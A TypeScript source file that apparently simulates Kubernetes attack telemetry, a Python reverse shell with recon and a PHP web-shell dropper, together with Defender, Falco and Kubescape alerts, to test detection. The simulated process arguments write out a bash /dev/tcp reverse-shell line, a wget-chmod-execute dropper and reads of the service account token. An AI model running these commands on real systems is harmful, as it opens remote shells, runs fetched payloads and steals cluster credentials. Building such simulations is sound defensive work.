/**
 * Footholds in ordinary (non-agent) pods, where no tool span ties anything together: a reverse
 * shell from a Python web app with recon commands run by that shell (Defender for Containers,
 * Falco and Kubescape all alert on it), and a web-shell dropper whose alerts all arrive late
 * (10–30 minutes, as Defender's do) or, in the alerts-first order, before their processes.
 */
import type { Sim } from '../sim.ts';
import { privateIp, publicIp, type Pod, type Proc } from '../world.ts';
import {
  attackLabels,
  attackProcess,
  attackStart,
  c2Port,
  payloadPath,
  type AttackStep,
  type Family,
} from './attack.ts';
import { defenderContainerAlert } from './defenderAlerts.ts';
import { falcoAlert, kubescapeAlert } from './sensorAlerts.ts';

interface WebApp {
  pods: Pod[];
  /** The request-serving worker of each pod (predates the stream). */
  worker: Map<Pod, Proc>;
}

/** How a Python web app is started: its request workers are python processes too. */
const PYTHON_SERVERS = [
  '/usr/local/bin/gunicorn app:app --bind 0.0.0.0:8000 --workers 2',
  '-m uvicorn main:app --host 0.0.0.0 --port 8000 --workers 2',
  '/app/manage.py runserver 0.0.0.0:8000 --noreload',
];

/** A web app whose master and workers predate the stream: database traffic and probes. */
function webApp(sim: Sim, kind: 'python' | 'php'): WebApp {
  const r = sim.rng;
  const namespace = r.pick(['web', 'shop', 'legacy', 'public']);
  const name =
    kind === 'python'
      ? r.pick(['storefront', 'blog-api', 'upload-svc', 'feedback-app'])
      : r.pick(['legacy-php', 'cms', 'wordpress', 'billing-portal']);
  const pods = Array.from({ length: r.int(2, 3) }, () =>
    sim.world.pod({ namespace, workload: name, container: kind === 'python' ? 'app' : 'php-fpm' }),
  );
  const worker = new Map<Pod, Proc>();
  const db: [string, number] = [privateIp(r), kind === 'python' ? 5432 : 3306];
  for (const pod of pods) {
    const master =
      kind === 'python'
        ? sim.world.main(pod, '/usr/local/bin/python3', r.pick(PYTHON_SERVERS), { uid: 1000 })
        : sim.world.main(pod, '/usr/local/sbin/php-fpm', '--nodaemonize', { uid: 0 });
    const w = sim.world.proc(
      pod,
      master.binary,
      kind === 'python' ? master.args : 'pool www',
      master.start + r.int(100, 900),
      master,
      { uid: kind === 'python' ? 1000 : 33 },
    );
    worker.set(pod, w);
    for (let t = sim.start + r.int(0, 30_000); t < sim.end; t += r.int(20_000, 90_000)) {
      sim.connect(w, t, db[0], db[1], 'benign');
      if (r.chance(0.2))
        sim.read(
          w,
          t + r.int(5, 200),
          kind === 'python' ? '/app/templates/index.html' : '/var/www/html/index.php',
          'benign',
        );
    }
    const probeEvery = r.int(20, 60) * 1000;
    for (let t = sim.start + r.int(0, probeEvery); t < sim.end; t += probeEvery) {
      const p = sim.world.proc(
        pod,
        '/usr/bin/curl',
        `-sf http://localhost:${kind === 'python' ? 8000 : 9000}/health`,
        t,
      );
      sim.run(p, 'benign', {
        steps: [{ at: r.int(1, 4), connect: ['127.0.0.1', kind === 'python' ? 8000 : 9000] }],
        lifetime: r.int(8, 30),
        probe: true,
      });
    }
  }
  return { pods, worker };
}

const RECON: [string, string, AttackStep[]][] = [
  ['/usr/bin/id', '', [{ at: 1, read: '/etc/passwd', part: true }]],
  ['/usr/bin/whoami', '', [{ at: 1, read: '/etc/passwd', part: true }]],
  ['/bin/uname', '-a', []],
  ['/bin/cat', '/etc/passwd', [{ at: 1, read: '/etc/passwd', part: true }]],
  ['/bin/ls', '-la /', []],
  ['/usr/bin/env', '', []],
  ['/bin/ps', 'aux', []],
  ['/bin/hostname', '', []],
  ['/bin/cat', '/proc/1/cgroup', [{ at: 1, read: '/proc/1/cgroup', part: true }]],
  [
    '/bin/cat',
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
    [{ at: 1, read: '/var/run/secrets/kubernetes.io/serviceaccount/token' }],
  ],
  ['/usr/bin/curl', '-sk https://10.0.0.1:443/api/v1/namespaces', [{ at: 20, connect: ['10.0.0.1', 443] }]],
];

/** python → sh -c → bash -i >& /dev/tcp/…, recon children, alerts from three vendors. */
export const reverseShell: Family = {
  name: 'reverse-shell',
  summary:
    'reverse shell in a non-agent pod (python → sh -c → bash -i >& /dev/tcp/…) with recon children, alerted by Defender, Falco and Kubescape',
  minutes: [30, 42],
  build(sim, id) {
    const r = sim.rng;
    const app = webApp(sim, 'python');
    const L = attackLabels(id());
    const pod = r.pick(app.pods);
    const worker = app.worker.get(pod)!;
    const at = attackStart(sim, 10 * 60_000);
    const ip = publicIp(r, 'attacker');
    const port = r.pick([4444, 9001, 1337, 443, 8080, 53]);
    const redirect = `bash -i >& /dev/tcp/${ip}/${port} 0>&1`;
    const sh = sim.world.proc(
      pod,
      '/bin/sh',
      r.chance(0.6) ? `-c "bash -c '${redirect}'"` : `-c "${redirect}"`,
      at,
      worker,
    );
    const outer = sh.args.includes("bash -c '")
      ? sim.world.proc(pod, '/bin/bash', `-c '${redirect}'`, at + r.int(1, 6), sh)
      : undefined;
    const bash = sim.world.proc(pod, '/bin/bash', '-i', (outer ?? sh).start + r.int(1, 6), outer ?? sh);
    // Recon: the attacker types commands for a few minutes.
    const recon = r.sample(RECON, r.int(4, 7));
    let t = bash.start + r.int(5_000, 20_000);
    for (const [binary, args, steps] of recon) {
      const p = sim.world.proc(pod, binary, args, t, bash);
      attackProcess(sim, L, p, steps, r.int(5, 400));
      if (r.chance(0.3)) sim.kubescape([kubescapeAlert('R0001', p, p.start + 1)], L.fact);
      t += r.int(3_000, 40_000);
    }
    const bashEnd = attackProcess(
      sim,
      L,
      bash,
      [{ at: r.int(2, 10), connect: [ip, port] }],
      t - bash.start + r.int(5_000, 60_000),
    );
    if (outer) attackProcess(sim, L, outer, [], bashEnd - outer.start + r.int(1, 5));
    attackProcess(sim, L, sh, [], bashEnd - sh.start + r.int(2, 8));
    defenderContainerAlert(
      sim,
      'K8S.NODE_ReverseShell',
      r.chance(0.5) ? bash : (outer ?? bash),
      bash.start + r.int(10, 500),
      L.fact,
      { ips: [ip] },
    );
    sim.falco(
      falcoAlert('Redirect STDOUT/STDIN to Network Connection in Container', bash, bash.start + r.int(2, 12), {
        ip,
        port,
      }),
      L.fact,
    );
    sim.kubescape(
      [
        kubescapeAlert('R0001', bash, bash.start + 1),
        kubescapeAlert('R0011', bash, bash.start + r.int(3, 12), { ip, port }),
      ],
      L.fact,
    );
    return [
      {
        id: L.id,
        family: this.name,
        summary: `${pod.name}: reverse shell to ${ip}:${port}, ${recon.length} recon commands`,
      },
    ];
  },
};

/** A web-shell dropper whose every alert arrives 10–30 minutes late. */
export const lateAlerts: Family = {
  name: 'late-alerts',
  summary:
    'web-shell dropper in a PHP pod whose every alert arrives 10–30 minutes late (or, in alerts-first, before its process)',
  minutes: [42, 52],
  build(sim, id) {
    const r = sim.rng;
    const app = webApp(sim, 'php');
    const L = attackLabels(id());
    const pod = r.pick(app.pods);
    const worker = app.worker.get(pod)!;
    const at = attackStart(sim, 14 * 60_000);
    const host = publicIp(r, 'attacker');
    const c2 = publicIp(r, 'attacker');
    const port = c2Port(sim);
    const payload = payloadPath(sim);
    const sh = sim.world.proc(
      pod,
      '/bin/sh',
      `-c "cd /tmp; wget -q http://${host}/k -O ${payload}; chmod +x ${payload}; ${payload} &"`,
      at,
      worker,
      { uid: 33 },
    );
    const wget = sim.world.proc(pod, '/usr/bin/wget', `-q http://${host}/k -O ${payload}`, sh.start + r.int(1, 8), sh);
    const wgetEnd = attackProcess(
      sim,
      L,
      wget,
      [
        { at: r.int(10, 60), connect: [host, 80] },
        { at: r.int(300, 1_000), write: payload },
      ],
      r.int(1_100, 2_000),
    );
    const chmod = sim.world.proc(pod, '/bin/chmod', `+x ${payload}`, wgetEnd + r.int(2, 20), sh);
    const chmodEnd = attackProcess(sim, L, chmod, [], r.int(2, 10));
    const p = sim.world.proc(pod, payload, '', chmodEnd + r.int(2, 20), sh);
    const steps: AttackStep[] = [];
    for (let t = r.int(500, 3_000); t < r.int(5, 10) * 60_000; t += r.int(45_000, 120_000))
      steps.push({ at: t, connect: [c2, port] });
    attackProcess(sim, L, p, steps, (steps.at(-1)?.at ?? 0) + r.int(1_000, 20_000));
    attackProcess(sim, L, sh, [], p.start - sh.start + r.int(5, 30));
    // Every alert is late: a backed-up exporter queue for Kubescape and Falco, Defender's usual delay.
    const late = () => r.int(10 * 60_000, 30 * 60_000);
    defenderContainerAlert(sim, 'K8S.NODE_DownloadAndRunCombo', sh, sh.start + r.int(100, 3_000), L.fact, {
      ips: [host],
      delayMs: late(),
    });
    if (r.chance(0.6))
      defenderContainerAlert(sim, 'K8S.NODE_SuspectDownload', wget, wget.start + r.int(50, 900), L.fact, {
        ips: [host],
        delayMs: late(),
      });
    sim.kubescape([kubescapeAlert('R1001', p, p.start + r.int(1, 20))], L.fact, late());
    sim.falco(falcoAlert('Drop and execute new binary in container', p, p.start + r.int(1, 5)), L.fact, late());
    return [
      {
        id: L.id,
        family: this.name,
        summary: `${pod.name}: web shell dropped ${payload} beaconing to ${c2}:${port}; alerts 10–30 min late`,
      },
    ];
  },
};
